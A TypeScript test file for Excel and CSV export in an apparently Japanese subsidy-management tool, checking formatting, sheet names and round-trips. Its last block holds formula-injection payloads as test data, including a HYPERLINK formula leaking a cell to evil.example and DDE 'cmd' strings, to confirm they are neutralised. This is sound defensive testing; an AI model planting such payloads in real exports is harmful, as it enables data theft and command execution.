/**
 * writeXlsx and writeCsv: what the user gets in Excel (filter, frozen header,
 * widths, number formats, A4 printing, valid sheet names), and that both read
 * back through readTable to the same header and values.
 */
import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { tempDir } from '@tests/support/tmp';
import { readTable } from './read';
import { type ColumnSpec, type SheetSpec, writeCsv, writeXlsx } from './write';

const columns: ColumnSpec[] = [
  { key: 'name', header: '事業者名' },
  { key: 'city', header: '市町村', width: 14 },
  { key: 'amount', header: '交付決定額（円）', numFmt: '#,##0', align: 'right' },
  { key: 'rate', header: '補助率', numFmt: '0.0%' },
  { key: 'done', header: '実績報告済' },
  { key: 'note', header: '備考' },
];

const rows: SheetSpec['rows'] = [
  {
    name: '在宅医療推進センター（新潟市医師会）',
    city: '新潟市',
    amount: 12_345_678,
    rate: 0.5,
    done: true,
    note: '変更交付申請あり, 9月',
  },
  { name: '"みなと"訪問看護ステーション', city: '長岡市', amount: 980_000, rate: 0.75, done: false, note: '1行目\n2行目' },
  { name: '佐渡地域連携室', city: '佐渡市', amount: 0, rate: 1, done: null, note: undefined },
];

/** The values as readTable gives them back. */
const expectedCells = [
  ['在宅医療推進センター（新潟市医師会）', '新潟市', '12345678', '0.5', 'TRUE', '変更交付申請あり, 9月'],
  ['"みなと"訪問看護ステーション', '長岡市', '980000', '0.75', 'FALSE', '1行目\n2行目'],
  ['佐渡地域連携室', '佐渡市', '0', '1', '', ''],
];

async function load(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(bytes).buffer);
  return workbook;
}

describe('writeXlsx', () => {
  it('reads back to the same header and values', async () => {
    const file = path.join(tempDir(), '交付決定.xlsx');
    fs.writeFileSync(file, await writeXlsx([{ name: '交付決定', columns, rows }]));
    const table = await readTable(fs.readFileSync(file), '交付決定.xlsx');
    expect(table.sheetName).toBe('交付決定');
    expect(table.header).toEqual(columns.map((column) => column.header));
    expect(table.rows).toEqual(expectedCells.map((cells, index) => ({ rowNumber: index + 2, cells })));
  });

  it('formats the sheet for filtering and A4 printing', async () => {
    const workbook = await load(await writeXlsx([{ name: '交付決定', columns, rows }]));
    const sheet = workbook.getWorksheet('交付決定')!;
    expect(sheet.autoFilter).toBe('A1:F1');
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.pageSetup).toMatchObject({ paperSize: 9, fitToPage: true, fitToWidth: 1, fitToHeight: 0, printTitlesRow: '1:1' });

    const header = sheet.getCell('A1');
    expect(header.font.bold).toBe(true);
    expect(header.fill).toMatchObject({ type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFEEEEEE' } });
    expect(header.border.bottom).toEqual({ style: 'thin' });
    expect(sheet.getCell('C2').numFmt).toBe('#,##0');
    expect(sheet.getCell('C2').alignment).toEqual({ horizontal: 'right' });
    expect(sheet.getCell('D3').numFmt).toBe('0.0%');

    // Given widths are kept; others follow the content, full-width characters counting two.
    expect(sheet.getColumn(2).width).toBe(14);
    expect(sheet.getColumn(1).width).toBe(36 + 2);
    expect(sheet.getColumn(3).width).toBe('交付決定額（円）'.length * 2 + 2);
    expect(sheet.getColumn(5).width).toBe('実績報告済'.length * 2 + 2);
  });

  it('puts a title above the header and freezes below both; wide tables print landscape', async () => {
    const wide = Array.from({ length: 12 }, (_, i) => ({ key: `c${i}`, header: `項目${i + 1}`, width: 12 }));
    const workbook = await load(
      await writeXlsx([
        { name: '一覧', title: '令和6年度 交付決定一覧', columns, rows },
        { name: '横長', columns: wide, rows: [] },
        { name: '縦長', columns: columns.slice(1, 3), rows },
      ]),
    );
    const sheet = workbook.getWorksheet('一覧')!;
    expect(sheet.getCell('A1').value).toBe('令和6年度 交付決定一覧');
    expect(sheet.getRow(2).values).toEqual([undefined, ...columns.map((column) => column.header)]);
    expect(sheet.getCell('A3').value).toBe(rows[0]!.name);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 2 });
    expect(sheet.autoFilter).toBe('A2:F2');
    expect(sheet.pageSetup.printTitlesRow).toBe('2:2');
    expect(workbook.getWorksheet('横長')!.pageSetup.orientation).toBe('landscape');
    expect(workbook.getWorksheet('縦長')!.pageSetup.orientation).toBe('portrait');
  });

  it('makes sheet names valid for Excel, keeping them readable and unique', async () => {
    const names = [
      '令和6/7年度[案]:集計*?',
      "'引用'",
      '在宅医療・介護連携推進事業 市町村別 実施状況調査 結果一覧（速報値）',
      'history',
      '集計',
      '集計',
      '',
    ];
    const workbook = await load(await writeXlsx(names.map((name) => ({ name, columns, rows: [] }))));
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual([
      '令和6／7年度［案］：集計＊？',
      '引用',
      '在宅医療・介護連携推進事業 市町村別 実施状況調査 結果一覧（',
      'history (2)',
      '集計',
      '集計 (2)',
      'Sheet7',
    ]);
  });
});

describe('writeCsv', () => {
  it('writes UTF-8 with a BOM and CRLF, quoting only where needed', () => {
    const bytes = writeCsv(columns, rows);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toBe(
      [
        '事業者名,市町村,交付決定額（円）,補助率,実績報告済,備考',
        '在宅医療推進センター（新潟市医師会）,新潟市,12345678,0.5,TRUE,"変更交付申請あり, 9月"',
        '"""みなと""訪問看護ステーション",長岡市,980000,0.75,FALSE,"1行目\n2行目"',
        '佐渡地域連携室,佐渡市,0,1,,',
        '',
      ].join('\r\n'),
    );
  });

  it('reads back to the same header and values', async () => {
    const table = await readTable(writeCsv(columns, rows), '交付決定.csv');
    expect(table).toMatchObject({ format: 'csv', encoding: 'utf-8' });
    expect(table.header).toEqual(columns.map((column) => column.header));
    expect(table.rows).toEqual(expectedCells.map((cells, index) => ({ rowNumber: index + 2, cells })));
  });
});

describe('formulas in exported text never run in Excel', () => {
  const attacks = [
    '=HYPERLINK("http://evil.example/?x="&A1,"詳細")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    "'=1+1",
  ];
  const columnsOf: ColumnSpec[] = [
    { key: 'name', header: '名称' },
    { key: 'amount', header: '金額' },
  ];
  const attackRows: SheetSpec['rows'] = attacks.map((name, i) => ({ name, amount: -1000 * (i + 1) }));

  it('writes text starting with = + - @ TAB CR behind a single quote in CSV, and keeps numbers as numbers', () => {
    const lines = writeCsv(columnsOf, [...attackRows, { name: '-5', amount: 12.5 }])
      .subarray(3)
      .toString('utf8')
      .split('\r\n');
    expect(lines.slice(1, 6)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""詳細"")",-1000`,
      `'+cmd|' /C calc'!A0,-2000`,
      `'@SUM(1+1)*cmd|' /C calc'!A0,-3000`,
      `'-2+3+cmd|' /C calc'!A0,-4000`,
      `'\t=1+1,-5000`,
    ]);
    // A carriage return inside a field needs quotes; text already quoted before a formula gets one more quote.
    expect(lines[6]).toBe(`"'\r=1+1",-6000`);
    expect(lines[7]).toBe(`''=1+1,-7000`);
    expect(lines[8]).toBe('-5,12.5');
  });

  it('reads its own CSV back to the text that was written', async () => {
    const table = await readTable(writeCsv(columnsOf, attackRows), 'x.csv');
    expect(table.rows.map((row) => row.cells[0])).toEqual(attacks);
  });

  it('writes the same text into a workbook as plain strings, never as formulas', async () => {
    const workbook = await load(await writeXlsx([{ name: '一覧', columns: columnsOf, rows: attackRows }]));
    const sheet = workbook.getWorksheet('一覧')!;
    const cells: ExcelJS.Cell[] = [];
    sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined)).toEqual([]);
    // A workbook's XML keeps a carriage return as a line break.
    expect(attacks.map((_, i) => sheet.getCell(i + 2, 1).value)).toEqual(attacks.map((text) => text.replace('\r', '\n')));
    expect(sheet.getCell(2, 2).value).toBe(-1000);
  });
});
